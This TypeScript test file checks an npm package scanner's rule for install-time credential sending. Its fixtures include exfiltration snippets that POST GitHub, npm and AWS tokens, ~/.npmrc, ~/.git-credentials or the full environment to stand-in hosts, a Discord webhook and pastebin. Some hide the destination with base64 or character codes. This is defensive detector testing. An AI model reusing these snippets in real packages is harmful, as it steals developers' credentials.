/**
 * A credential read is judged by the destination it reaches (npm/judge.ts, `secret_send`):
 *
 *  - a named token of a well-known vendor sent to that vendor's API (`GITHUB_TOKEN` to
 *    api.github.com) is authentication, not exfiltration;
 *  - a named token sent at install time to a destination the user or caller chooses at run time (an
 *    SDK's base-URL option, a parameter, an environment value) is the user's configuration: LOW;
 *  - a token sent to a fixed foreign host, a webhook, a paste site, or a destination decoded at run
 *    time (base64, character codes, split pieces) stays exfiltration.
 *
 * The real case's shape: an SDK/CLI whose postinstall loads a GitHub API client that retries with
 * `process.env.GITHUB_TOKEN` when rate-limited, to a URL built from `this._clientOptions.apiBase`
 * (node-llama-cpp 3.x, BLOCKED before: HIGH "a computed destination").
 */
import { test } from 'uvu';
import * as assert from 'uvu/assert';
import { analyzeArchive, type ArchiveAnalysis } from '../../shared/packages/analysis/index.js';
import { packageVerdict, reviewPackage } from '../../shared/packages/lens/index.js';
import { npmTgz } from '../fixtures/archives/build.js';

const REGISTRY = 'registry.example.org';
const level = (a: ArchiveAnalysis) =>
  packageVerdict(reviewPackage({ registry: 'npm', name: 'x', version: '1.0.0', analysis: a, integrity: { ok: true, expected: 'x', actual: 'x' }, advisories: { status: 'ok', advisories: [] } })).securityLevel;
const sends = (a: ArchiveAnalysis) => a.findings.filter((f) => f.ruleId === 'secret_send').map((f) => f.severity);

/** A package whose postinstall runs `lib/install.js`, which loads `lib/client.js`. */
async function pkg(client: string, install = "const { run } = require('./client.js');\nrun().catch(() => {});\n") {
  return analyzeArchive(
    npmTgz({
      'package.json': JSON.stringify({ name: 'model-runner', version: '1.0.0', repository: 'github:model-org/model-runner', scripts: { postinstall: 'node ./lib/install.js' } }),
      'lib/install.js': install,
      'lib/client.js': client,
    }),
    { kind: 'tgz', registry: 'npm', registryHosts: [REGISTRY] },
  );
}

const REAL = `const defaultApiBase = "https://api.github.com";
class ApiClient {
  constructor(clientOptions = {}) { this._clientOptions = clientOptions; }
  async latest({ owner, repo }) { return this._fetchJson('/repos/' + owner + '/' + repo + '/releases/latest'); }
  async _fetchJson(path) {
    const url = this._getApiBase() + path;
    const headers = { Accept: "application/vnd.github+json" };
    let res = await fetch(url, { method: "GET", headers });
    if (!res.ok && res.status === 403) {
      const tokenFromEnv = process.env.GITHUB_TOKEN || process.env.GH_TOKEN;
      if (tokenFromEnv) {
        headers.Authorization = "Bearer " + tokenFromEnv;
        res = await fetch(url, { method: "GET", headers });
      }
    }
    return res.json();
  }
  _getApiBase() { return this._clientOptions?.apiBase ?? defaultApiBase; }
}
exports.run = async () => new ApiClient({}).latest({ owner: 'model-org', repo: 'engine' });
`;

/** The hook loads the client without calling it (so the verdict shows the send alone, not the hook's network use). */
const LOADS = "require('./client.js');\n";
const atMostLow = (a: ArchiveAnalysis) => sends(a).length > 0 && sends(a).every((s) => s === 'LOW');

test('the real case: a token sent by an API client to a base URL its options set is not exfiltration', async () => {
  const a = await pkg(REAL, LOADS);
  assert.ok(atMostLow(a), sends(a).join(','));
  assert.ok(a.findings.find((f) => f.ruleId === 'secret_send')!.message.includes('chosen at run time'));
  assert.is(level(a), 'MONITORED');
});

test('variants: the base URL from a parameter, an environment value, a function argument; the token to its vendor', async () => {
  // A helper called with a caller's URL (a parameter of the exported function).
  let a = await pkg("exports.run = async (base) => fetch(base + '/v1/me', { headers: { authorization: 'token ' + process.env.GITHUB_TOKEN } });\n", LOADS);
  assert.ok(atMostLow(a));
  assert.is(level(a), 'MONITORED');
  // The user's environment names the endpoint.
  a = await pkg("exports.run = async () => { const u = process.env.MODEL_HUB_URL; return fetch(u, { headers: { authorization: process.env.HF_TOKEN } }); };\n", LOADS);
  assert.ok(atMostLow(a));
  // A GitHub token to the GitHub API of another repository (a release lookup): its vendor.
  a = await pkg("exports.run = async () => fetch('https://api.github.com/repos/other-org/engine/releases/latest', { headers: { authorization: `Bearer ${process.env.GITHUB_TOKEN}` } });\n", LOADS);
  assert.equal(sends(a), []);
  assert.is(level(a), 'MONITORED');
  // Through https.request and req.write, the host from this.options.
  a = await pkg(`const https = require('https');
class C { constructor(o) { this.options = o; }
  send() { const req = https.request({ hostname: this.options.host, method: 'POST' }); req.write(JSON.stringify({ token: process.env.SERVICE_API_KEY })); req.end(); } }
exports.run = async () => new C({ host: 'localhost' }).send();
`, LOADS);
  assert.ok(sends(a).every((s) => s === 'LOW'));
});

test('malicious twins stay BLOCKED: a fixed foreign host, a webhook, a paste site, an encoded or split destination', async () => {
  const cases: [string, string][] = [
    ['hard-coded foreign host', "exports.run = async () => fetch('https://metrics.collect-cdn.example/t', { method: 'POST', body: process.env.GITHUB_TOKEN });\n"],
    ['GitHub token to a host that is not GitHub', "exports.run = async () => fetch('https://api.githubstatus-cdn.example/v3', { headers: { authorization: process.env.GITHUB_TOKEN } });\n"],
    ['GitHub token into an issue (a tracker, even on its vendor)', "exports.run = async () => fetch('https://api.github.com/repos/attacker/drop/issues', { method: 'POST', body: JSON.stringify({ title: process.env.GITHUB_TOKEN }) });\n"],
    ['webhook', "exports.run = async () => fetch('https://discord.com/api/webhooks/123/abc', { method: 'POST', body: JSON.stringify({ content: process.env.NPM_TOKEN }) });\n"],
    ['paste site', "exports.run = async () => fetch('https://pastebin.com/api/api_post.php', { method: 'POST', body: 'api_paste_code=' + process.env.AWS_SECRET_ACCESS_KEY });\n"],
    ['base64 destination', "exports.run = async () => fetch(Buffer.from('aHR0cHM6Ly9tZXRyaWNzLmNvbGxlY3QtY2RuLmV4YW1wbGUvdA==', 'base64').toString(), { method: 'POST', body: process.env.GITHUB_TOKEN });\n"],
    ['base64 destination decoded from a variable', "const enc = process.env.X_ENC || 'aHR0cHM6Ly9tZXRyaWNzLmNvbGxlY3QtY2RuLmV4YW1wbGUvdA==';\nexports.run = async () => fetch(atob(enc), { method: 'POST', body: process.env.GH_TOKEN });\n"],
    ['character codes', "const u = String.fromCharCode(104,116,116,112,115,58,47,47,101,118,105,108,46,101,120,97,109,112,108,101);\nexports.run = async () => fetch(u, { method: 'POST', body: process.env.GITHUB_TOKEN });\n"],
    ['split pieces', "const u = ['https://', 'metrics.collect', '-cdn.example/t'].join('');\nexports.run = async () => fetch(u, { method: 'POST', body: process.env.GITHUB_TOKEN });\n"],
    ['the host handed to a helper', "function post(u) { return fetch(u, { method: 'POST', body: process.env.GITHUB_TOKEN }); }\nexports.run = async () => post('https://metrics.collect-cdn.example/t');\n"],
    ['the host set on this by the file', "class T { constructor() { this.base = 'https://metrics.collect-cdn.example'; } go() { return fetch(this.base + '/t', { method: 'POST', body: process.env.GITHUB_TOKEN }); } }\nexports.run = async () => new T().go();\n"],
    ['a credential file to a configured URL', "const fs = require('fs');\nexports.run = async (u) => fetch(u, { method: 'POST', body: fs.readFileSync(require('os').homedir() + '/.git-credentials', 'utf8') });\n"],
  ];
  for (const [what, code] of cases) {
    const a = await pkg(code);
    assert.is(level(a), 'BLOCKED', `${what}: ${sends(a).join(',')} ${a.findings.filter((f) => f.severity !== 'INFO').map((f) => f.ruleId).join(',')}`);
  }
});

// Credentials through the file's own functions (docs/package-analysis.md, "npm22"): a call of a local
// function hands its parameters the credentials (and the whole environment, wallet stores, cloud
// credentials) it is called with, with their names; a local function's return carries them too. Real
// case: SET7's `worm-republish/gh-auth-token-prepare-tsc` (a token from `gh auth token`, sent by
// `call('PUT', p, token, body)` from a file only the prepare hook runs).
const helperSend = (o: { token?: string; host?: string; body?: string } = {}) => `"use strict";
const child_process_1 = require("child_process");
const API = process.env.API_URL || "${o.host ?? 'https://api.repo-sync.example'}";
function token() {
    if (process.env.GITHUB_TOKEN) return process.env.GITHUB_TOKEN;
    try { return (0, child_process_1.execSync)("gh auth token").toString().trim(); } catch (_a) { return ""; }
}
async function call(method, p, tok, body) {
    const r = await fetch(API + p, { method, headers: { authorization: "token " + tok }, body: body ? JSON.stringify(body) : undefined });
    return r.ok ? r.json() : null;
}
async function main() {
    const t = ${o.token ?? 'token()'};
    if (!t) return;
    await call("PUT", "/repos/x/contents/r.b64", t, ${o.body ?? '{ message: "add" }'});
}
main().catch(() => {});
`;
const prepareOnly = (file: string) =>
  analyzeArchive(
    npmTgz({ 'package.json': JSON.stringify({ name: 'changelog-kit', version: '0.9.0', main: 'index.js', scripts: { prepare: 'node dist/prepare.js' } }), 'index.js': 'module.exports = {};\n', 'dist/prepare.js': file }),
    { kind: 'tgz', registry: 'npm', registryHosts: [REGISTRY] },
  );

test('a credential helper\'s token handed to the file\'s own sender from a prepare-only file (SET7\'s case): CRITICAL, BLOCKED', async () => {
  const a = await prepareOnly(helperSend());
  assert.ok(sends(a).includes('CRITICAL'), a.findings.map((f) => f.ruleId).join(' '));
  assert.is(level(a), 'BLOCKED');
});

test('variants: an npm token read from .npmrc through two helpers (any role); a GitHub token from the environment at install, through an arrow function, to a fixed foreign host; the whole environment as the body', async () => {
  const npmrc = await prepareOnly(`const fs = require('fs');
const os = require('os');
const readToken = () => fs.readFileSync(os.homedir() + '/.npmrc', 'utf8');
const post = (url, data) => fetch(url, { method: 'POST', body: data });
function upload(what) { return post('https://collect.pkg-stats.example/u', what); }
upload(readToken());
`);
  assert.ok(sends(npmrc).includes('CRITICAL'), `npmrc: ${npmrc.findings.map((f) => f.ruleId).join(' ')}`);
  const install = await pkg(`const send = async (url, key) => fetch(url, { headers: { 'x-key': key } });
exports.run = async () => { await send('https://telemetry.other-vendor.example/v1', process.env.GITHUB_TOKEN); };
`);
  assert.ok(sends(install).includes('CRITICAL'), `install: ${install.findings.map((f) => f.ruleId).join(' ')}`);
  const env = await prepareOnly(helperSend({ token: '"x"', body: '{ env: process.env }' }));
  assert.is(level(env), 'BLOCKED', `env: ${env.findings.map((f) => f.ruleId).join(' ')}`);
});

test('honest twins: the same helper sending the token to GitHub\'s API; a program-prefixed GitHub token name (NETLIFY_TEST_GITHUB_TOKEN) to GitHub; a token handed to a helper whose base URL the user sets, at run time', async () => {
  const gh = await prepareOnly(helperSend({ host: 'https://api.github.com' }));
  assert.not.ok(sends(gh).some((s) => s === 'CRITICAL' || s === 'HIGH'), `gh: ${sends(gh).join(' ')}`);
  assert.not.ok(level(gh) === 'BLOCKED' || level(gh) === 'CAUTION', level(gh));
  const prefixed = await pkg(`const headers = () => { const h = { accept: 'application/vnd.github+json' }; if (process.env.NETLIFY_TEST_GITHUB_TOKEN) h.authorization = 'token ' + process.env.NETLIFY_TEST_GITHUB_TOKEN; return h; };
const latest = async (repo) => (await fetch('https://api.github.com/repos/' + repo + '/releases/latest', { headers: headers() })).json();
exports.run = async () => latest('model-org/model-runner');
`);
  assert.not.ok(sends(prefixed).some((s) => s === 'CRITICAL' || s === 'HIGH'), `prefixed: ${sends(prefixed).join(' ')}`);
  const userBase = await analyzeArchive(
    npmTgz({
      'package.json': JSON.stringify({ name: 'api-kit', version: '1.0.0', main: 'index.js' }),
      'index.js': 'function request(base, path, key) { return fetch(base + path, { headers: { authorization: "Bearer " + key } }); }\nexports.list = (opts) => request(opts.baseUrl, "/items", process.env.API_KIT_TOKEN);\n',
    }),
    { kind: 'tgz', registry: 'npm', registryHosts: [REGISTRY] },
  );
  assert.not.ok(sends(userBase).some((s) => s === 'CRITICAL' || s === 'HIGH'), `userBase: ${sends(userBase).join(' ')}`);
  assert.not.ok(level(userBase) === 'BLOCKED' || level(userBase) === 'CAUTION', level(userBase));
});

test.run();
